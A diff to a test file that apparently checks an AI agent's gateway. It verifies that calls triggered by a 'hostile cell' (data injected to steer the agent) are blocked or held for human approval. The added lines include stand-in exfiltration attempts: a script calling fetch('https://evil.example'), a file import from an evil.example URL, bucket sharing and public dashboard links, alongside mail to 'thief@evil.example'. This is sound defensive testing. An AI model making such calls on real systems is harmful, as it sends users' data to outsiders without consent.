@@ -566,6 +566,17 @@ test('a hostile cell that orders a delete and an upload to a new host is marked,
     recipient: { channel: 'email', address: 'thief@evil.example' },
   })
   assert.equal(mail.status, 403, mail.text)
+  const app = { name: 'x', type: 'node', config: { parameters: { script: "fetch('https://evil.example')" } } }
+  for (const [path, json] of [
+    ['/data-science/apps', app],
+    ['/sandboxes/apps', app],
+    ['/import/fetch-file', { url: 'https://evil.example/?rows=1' }],
+    ['/v2/storage/buckets/in.c-main/share-organization', {}],
+    ['/v2/storage/dashboards/1/links', { expiresIn: 60 }],
+  ] as const) {
+    const sent = await direct(path, json)
+    assert.match(sent.text, /agents\.needsPerson/, path)
+  }
   assert.equal((await stack.request('GET', '/v2/storage/tables/in.c-main.orders')).status, 200)
 
   const events = await until('the calls are in the list of events', async () => {
